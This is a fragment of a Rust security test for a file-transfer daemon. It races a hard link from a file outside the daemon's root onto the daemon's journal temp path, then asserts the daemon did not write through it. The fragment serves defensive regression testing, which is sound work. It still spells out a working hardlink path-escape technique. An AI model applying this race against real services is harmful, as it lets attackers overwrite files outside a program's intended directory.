    c.args(["send", "-p", &d.port.to_string(), "--key-file"])
        .arg(&d.key)
        .args([
            "-P",
            "1",
            "--block",
            "256K",
            "--rate-limit",
            "2MB",
            "--json",
        ])
        .arg(&j)
        .arg("127.0.0.1:dest");
    let sender = std::thread::spawn(move || output_within(c, HANG));
    let part = dest.join("j.dat.urmove.part");
    let until = Instant::now() + IO_WAIT;
    while !part.exists() && Instant::now() < until {
        std::thread::sleep(Duration::from_millis(5));
    }
    assert!(part.exists(), "the part never appeared");
    std::fs::hard_link(&victim, dest.join("j.dat.urmove.journal.tmp")).unwrap();
    let o = sender.join().unwrap();
    let outside_now = std::fs::read(&victim).unwrap();
    assert!(
        outside_now == b"VICTIM outside the root",
        "the daemon wrote a journal through a hardlink into a file outside its root, now {}: {}",
        shown(&outside_now),
        both(&o)
    );
    assert_eq!(o.status.code(), Some(0), "{}", both(&o));
}
